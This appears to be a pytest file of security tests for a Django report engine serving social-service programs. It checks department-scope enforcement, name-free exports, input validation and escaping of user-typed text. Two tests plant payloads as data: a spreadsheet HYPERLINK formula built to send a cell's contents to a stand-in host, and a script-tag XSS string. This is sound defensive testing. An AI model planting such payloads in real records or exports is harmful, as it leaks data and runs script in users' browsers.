"""Attacks on the report engine (/informes/, /api/v1/informes/): departments out of scope in
the query string, names in figures, bad periods, text typed by users reaching the exports."""

import datetime as dt
import io
import json

import pytest
from openpyxl import load_workbook

from tejido.common.models import AccessEvent
from tejido.common.testing import JUTIAPA, JUTIAPA_TOWN, ZACAPA, ZACAPA_TOWN, make_center, make_person
from tejido.common.testing import api_client_for as _api
from tejido.common.testing import client_for as _client
from tejido.programs.referrals import referral_create
from tejido.programs.services import enrolment_create
from tejido.territory.models import Municipality

pytestmark = pytest.mark.django_db
D = dt.date(2023, 3, 1)




@pytest.fixture
def elders(people):
    """Two Zacapa elders (Rosa Zacapaneca, Pedro Zacapaneco) and three Jutiapa ones."""
    day = make_center(ZACAPA_TOWN, kind="elderly_day", name="Centro Diurno Zacapa")
    home = make_center(JUTIAPA_TOWN, kind="elderly_residential", name="CAP Jutiapa")
    for center, given, surname, n in ((day, "Rosa", "Zacapaneca", 2), (home, "Juana", "Jutiapaneca", 3)):
        for i in range(n):
            person = make_person(center.municipality_id, given_names=f"{given}{i}", first_surname=surname,
                                 birth_date=dt.date(1950, 1, 1))
            enrolment_create(person=person, center=center, program="elderly", start=D, acting_user=people["central"])


def _elderly_total(report):
    table = next(t for t in report["tables"] if t["id"] == "elderly.by_department")
    return table["totals"]["beneficiaries"]


def test_jutiapa_officer_cannot_ask_for_zacapa_in_the_api(people, elders):
    api = _api(people["jutiapa"])
    answer = api.get(f"/api/v1/informes/annual?anio=2023&departamento={ZACAPA}")
    assert answer.status_code == 400 and "fuera de su territorio" in answer.json()["detail"]
    mixed = api.get(f"/api/v1/informes/annual?anio=2023&departamento={JUTIAPA}&departamento={ZACAPA}")
    assert mixed.status_code == 400
    own = api.get("/api/v1/informes/annual?anio=2023")
    assert own.status_code == 200 and _elderly_total(own.json()) == 3
    assert own.json()["scope"]["departments"] == ["Jutiapa"]


def test_jutiapa_officer_cannot_ask_for_zacapa_in_the_page(people, elders):
    client = _client(people["jutiapa"])
    response = client.get(f"/informes/?informe=annual&tipo=anio&anio=2023&departamento={ZACAPA}&formato=json")
    assert response["Content-Type"].startswith("text/html")
    assert "Elija departamentos de la lista" in response.content.decode()
    own = client.get("/informes/?informe=annual&tipo=anio&anio=2023&formato=json")
    assert own.status_code == 200 and own["Content-Type"].startswith("application/json")
    assert _elderly_total(json.loads(own.content)) == 3


def test_clerk_cannot_widen_the_report_with_departments(people, elders):
    answer = _api(people["clerk"]).get(f"/api/v1/informes/annual?anio=2023&departamento={ZACAPA}")
    assert answer.status_code == 400 and "fuera de su territorio" in answer.json()["detail"]


def test_clerk_gets_an_empty_report_not_a_server_error(people, elders):
    """A center clerk's scope admits no social-service row: restrict() returns qs.none(), and
    socialservice.figures.people_by_department turns it into raw SQL (sql_with_params), which
    raises EmptyResultSet: the whole report answers 500 to every clerk."""
    api = _api(people["clerk"])
    api.raise_request_exception = False
    own = api.get("/api/v1/informes/annual?anio=2023")
    assert own.status_code == 200 and _elderly_total(own.json()) == 0
    page = _client(people["clerk"])
    page.raise_request_exception = False
    assert page.get("/informes/?informe=annual&tipo=anio&anio=2023").status_code == 200


def test_national_user_narrowing_counts_only_that_department(people, elders):
    answer = _api(people["planner"]).get(f"/api/v1/informes/annual?anio=2023&departamento={ZACAPA}")
    assert answer.status_code == 200 and _elderly_total(answer.json()) == 2
    unknown = _api(people["planner"]).get("/api/v1/informes/annual?anio=2023&departamento=999")
    assert unknown.status_code == 200 and _elderly_total(unknown.json()) == 0


@pytest.mark.parametrize("fmt", ["json", "xlsx", "docx", "pdf"])
def test_planner_report_carries_no_names(people, elders, fmt):
    response = _client(people["planner"]).get(f"/informes/?informe=annual&tipo=anio&anio=2023&formato={fmt}")
    assert response.status_code == 200
    assert b"Zacapaneca" not in response.content and b"Jutiapaneca" not in response.content
    if fmt == "xlsx":
        book = load_workbook(io.BytesIO(response.content))
        cells = [str(c.value) for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
        assert not any("Zacapaneca" in c or "Jutiapaneca" in c for c in cells)


def test_report_is_logged(people, elders):
    _api(people["zacapa"]).get("/api/v1/informes/annual?anio=2023")
    assert AccessEvent.objects.filter(user=people["zacapa"], model="reports.Report").exists()


def test_unknown_report_is_a_spanish_400(people):
    answer = _api(people["zacapa"]).get("/api/v1/informes/secreto?anio=2023")
    assert answer.status_code == 400 and "No existe el informe" in answer.json()["detail"]


@pytest.mark.parametrize("query", ["anio=2023&mes=13", "anio=2023&cuatrimestre=4", "desde=2023-05-01&hasta=2023-04-01",
                                   "desde=2023-05-01", "mes=3"])
def test_bad_periods_are_spanish_400s(people, query):
    answer = _api(people["zacapa"]).get(f"/api/v1/informes/annual?{query}")
    assert answer.status_code == 400 and answer.json()["detail"]


@pytest.mark.parametrize("query", ["anio=0", "anio=-5", "anio=10000", "anio=99999999999", "anio=10000&mes=1"])
def test_impossible_years_are_spanish_400s_not_server_errors(people, query):
    """The page's form bounds the year (2000-2100); the API does not, and date(0, 1, 1) raises
    ValueError inside the view: a 500 instead of a Spanish 400."""
    client = _api(people["zacapa"])
    client.raise_request_exception = False
    answer = client.get(f"/api/v1/informes/annual?{query}")
    assert answer.status_code in (400, 422)


def test_range_in_year_one_is_not_a_server_error(people):
    """women.figures._years_before(end, 60) steps before year 1 and raises ValueError."""
    client = _api(people["zacapa"])
    client.raise_request_exception = False
    answer = client.get("/api/v1/informes/annual?desde=0001-01-01&hasta=0001-12-31")
    assert answer.status_code in (200, 400, 422)


@pytest.mark.parametrize("query", ["anio=2023&mes=0", "anio=2023&cuatrimestre=0"])
def test_month_or_four_month_zero_is_not_silently_the_whole_year(people, query):
    answer = _api(people["zacapa"]).get(f"/api/v1/informes/annual?{query}")
    assert answer.status_code == 400


def test_text_typed_by_users_is_not_a_formula_in_the_xlsx(people):
    """An officer types the "other institution" of a referral; the national report lists it as a
    destination. A value starting with "=" must reach Excel as text, not as a formula."""
    payload = '=HYPERLINK("http://example.invalid/?x="&A1,"Abrir")'
    referral_create(person=make_person(), origin_program="social_service", reason="Apoyo", date=D,
                    municipality=Municipality.objects.get(pk=ZACAPA_TOWN), acting_user=people["zacapa"],
                    destination_institution=payload, source="migrants.Reception:1")
    response = _client(people["planner"]).get(
        "/informes/?informe=annual&tipo=anio&anio=2023&programa=social_service&formato=xlsx")
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)
             and "HYPERLINK" in c.value]
    assert cells, "the destination must appear in the workbook"
    assert all(c.data_type != "f" for c in cells)


def test_text_typed_by_users_is_escaped_in_the_report_page(people):
    referral_create(person=make_person(), origin_program="social_service", reason="Apoyo", date=D,
                    municipality=Municipality.objects.get(pk=ZACAPA_TOWN), acting_user=people["zacapa"],
                    destination_institution="<script>alert(1)</script>", source="migrants.Reception:1")
    body = _client(people["planner"]).get(
        "/informes/?informe=annual&tipo=anio&anio=2023&programa=social_service").content.decode()
    assert "<script>alert(1)</script>" not in body
